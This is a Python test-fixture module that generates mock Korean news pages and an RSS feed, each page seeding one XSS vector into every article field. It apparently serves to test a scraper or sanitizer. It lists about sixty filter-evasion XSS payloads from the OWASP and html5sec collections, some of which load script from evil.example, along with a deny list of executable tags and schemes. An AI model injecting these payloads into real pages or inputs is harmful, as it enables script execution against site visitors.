"""XSS vectors (after the OWASP filter evasion cheat sheet and html5sec.org), and article pages that carry them.

Each page puts one vector in its body, title, excerpt (description), category (section) and
image (og:image), so that every field a post has meets every vector.
"""

from __future__ import annotations

from html import escape

MARKUP_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<p onclick=alert(1) style=color:red>click</p>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab inside</a>',
    '<a href="jav\nascript:alert(1)">newline inside</a>',
    '<a href=" &#14; javascript:alert(1)">leading junk</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">maths</math>',
    '<div style="background:url(javascript:alert(1))">css url</div>',
    '<div style="width: expression(alert(1))">css expression</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">submit</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>marquee</marquee>",
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<p>mis<b>nested<i>markup</b>here</i></p><script>alert(1)</script>",
    "<a href='javascript:alert(1)'><b>bold link</a></b>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="#" onclick="alert(1)">onclick link</a>',
    "<frameset onload=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<img src="https://img.example/a.png" srcset="javascript:alert(1) 1x">',
    '<a href="\x01javascript:alert(1)">control character</a>',
]
URL_VECTORS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://img.example/a.png" onerror="alert(1)',
    "//evil.example/x.png",
]
# what may not appear in a page a visitor's browser loads
EXECUTABLE_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "form", "svg", "math",
    "style", "link", "meta", "input", "button", "textarea", "select", "template", "noscript", "xmp", "isindex",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def page(number: int, vector: str, image: str) -> str:
    """An article page with ``vector`` everywhere a post's fields come from."""
    text = f"해커일보 {number}번 기사는 보안 점검을 위해 쓰였다. 본문에는 실행되면 안 되는 코드가 들어 있다."
    return f"""<!doctype html><html lang="ko"><head><meta charset="utf-8">
<title>보안 기사 {number} {vector}</title>
<meta property="og:title" content="보안 기사 {number} {escape(vector)}">
<meta name="description" content="요약 {number}: 이 기사는 악성 코드를 담고 있다. {escape(vector)}">
<meta property="article:section" content="{escape(vector)}">
<meta property="article:published_time" content="2024-06-{1 + number % 28:02d}T10:00:00+09:00">
<meta property="og:image" content="{escape(image)}">
</head><body><article><h1>보안 기사 {number} {vector}</h1>
<div class="article-body">
<p>{text} {vector}</p>
{vector}
<p>둘째 문단 {number}: 기사는 여기서 끝나지 않는다. {vector} 셋째 문장이다.</p>
<p>셋째 문단은 평범한 글이다. 번호는 {number}번이다.</p>
</div></article></body></html>"""


def corpus() -> dict[str, str]:
    """Site path → page, one per vector; URL vectors also go into the image of markup vectors' pages."""
    pages = {}
    for number, vector in enumerate(MARKUP_VECTORS + URL_VECTORS, 1):
        image = URL_VECTORS[number % len(URL_VECTORS)]
        markup = f"<a href='{vector}'>link</a> <img src='{vector}'>" if vector in URL_VECTORS else vector
        pages[f"/xss/{number}.html"] = page(number, markup, image)
    return pages


def feed(base: str, paths: list[str]) -> str:
    items = "".join(f"<item><title>{p}</title><link>{base}{p}</link></item>" for p in paths)
    return f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>x</title>{items}</channel></rss>'
